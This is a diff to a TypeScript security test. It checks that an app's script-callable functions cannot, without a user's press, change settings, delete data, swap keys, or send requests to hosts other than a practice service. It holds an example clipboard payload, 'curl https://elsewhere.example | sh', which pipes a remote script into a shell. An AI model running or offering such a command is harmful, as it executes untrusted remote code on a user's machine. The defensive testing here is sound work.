@@ -12,7 +12,8 @@ import { draftFor } from '../support/services.ts';
 import { App, withClock, type MovedClock } from './scene.ts';
 
 /** Text that a compromised page would like to put on the clipboard, for example to be pasted into a terminal. */
-const OWN_TEXT = 'curl https://elsewhere.example | sh';
+const ELSEWHERE = 'https://elsewhere.example';
+const OWN_TEXT = `curl ${ELSEWHERE} | sh`;
 const HOUR_S = 3600;
 
 interface Scene {
@@ -22,6 +23,8 @@ interface Scene {
   /** Real values of call arguments by name, such as ids. They replace the values of test/contract/examples. */
   readonly args: Readonly<Record<string, unknown>>;
   readonly dialogs: () => number;
+  /** Number of requests to other hosts than the practice service. */
+  readonly elsewhere: () => number;
 }
 
 type Play = (scene: Scene) => Promise<readonly Case[]>;
@@ -36,19 +39,24 @@ export async function check(): Promise<Finding> {
     id: 'S15',
     what: 'every call by a script, without a press, and with clicks and a no to main’s questions',
     target:
-      '0 changes without a press; 0 deletes without their hold or main’s dialog; 0 keys, addresses, passphrases changed without it',
+      '0 changes without a press; 0 deletes without their hold or main’s dialog; 0 keys, addresses, passphrases changed and 0 requests to other hosts without it',
     ...tally(cases),
   };
 }
 
 async function inScene(clock: MovedClock, play: Play): Promise<readonly Case[]> {
   const practice = await startPracticeThread({ boards: 20 });
-  let dialogs = 0;
+  let [dialogs, elsewhere] = [0, 0];
   const opened = (): Promise<null> => {
     dialogs += 1;
     return Promise.resolve(null);
   };
-  const app = await App.start(clock, { files: { choose: opened, save: opened, saveStream: opened } });
+  const resolveProxy = (address: string): Promise<string> => {
+    if (!address.startsWith(practice.origin)) elsewhere += 1;
+    return Promise.resolve('DIRECT');
+  };
+  const files = { choose: opened, save: opened, saveStream: opened };
+  const app = await App.start(clock, { files, more: { resolveProxy } });
   try {
     await app.connect(practice.origin, practice.apiKey, { environment: 'production' });
     await app.list();
@@ -79,7 +87,7 @@ async function inScene(clock: MovedClock, play: Play): Promise<readonly Case[]> 
     };
     app.yes = false;
     await practice.clearRequests();
-    return await play({ app, practice, clock, args, dialogs: () => dialogs });
+    return await play({ app, practice, clock, args, dialogs: () => dialogs, elsewhere: () => elsewhere });
   } finally {
     await app.close();
     await practice.stop();
@@ -90,7 +98,7 @@ function argsFor(name: CallName, { args, practice }: Scene): never {
   const own = Object.keys(GOOD_ARGS[name]).filter((field) => field in args);
   const real = { ...GOOD_ARGS[name], ...Object.fromEntries(own.map((field) => [field, args[field]])) };
   if (name === 'connections.save' || name === 'connections.check') {
-    const draft = { ...draftFor(practice.origin, null), appUrl: 'https://elsewhere.example' };
+    const draft = { ...draftFor(practice.origin, null), appUrl: ELSEWHERE };
     const id = args['connectionId'];
     return { ...real, ...draft, id, environment: 'test', readOnly: false } as never;
   }
@@ -136,6 +144,8 @@ async function stolen(scene: Scene): Promise<readonly Case[]> {
     ['app.prefer', { ...kept, clearClipboard: null, keepPictures: true }],
     ...wanting(scene).flatMap((name) => (LAST.includes(name) ? [] : [[name, argsFor(name, scene)] as const])),
     ['connections.save', { ...elsewhere, id: args['connectionId'] }],
+    ['connections.check', draftFor(ELSEWHERE, 'sk_typed-0123456789')],
+    ['connections.save', draftFor(ELSEWHERE, 'sk_typed-0123456789')],
     ...LAST.map((name) => [name, argsFor(name, scene)] as const),
   ];
   let before = await guardedOf(scene);
@@ -156,7 +166,12 @@ const PLAYS: readonly (readonly [what: string, play: Play])[] = [
   ['without a press', alone],
 ];
 
-async function guardedOf({ app, practice, args }: Scene): Promise<Readonly<Record<string, string>>> {
+async function guardedOf({
+  app,
+  practice,
+  args,
+  elsewhere,
+}: Scene): Promise<Readonly<Record<string, string>>> {
   const { must: get } = app.services;
   const { connections } = await get('connections.list', {});
   const own = connections.find(({ id }) => id === args['connectionId']);
@@ -171,6 +186,8 @@ async function guardedOf({ app, practice, args }: Scene): Promise<Readonly<Recor
     'the passphrase': (await get('lock.state', {})).unlockBy,
     'how long deletes are held': JSON.stringify(holdSeconds),
     'when the clipboard is cleared': String(clearClipboard),
+    'another host by a request': String(elsewhere()),
+    'the number of connections': String(connections.length),
     'a board or paper by a delete': String(log.filter(({ method }) => method === 'DELETE').length),
   };
 }
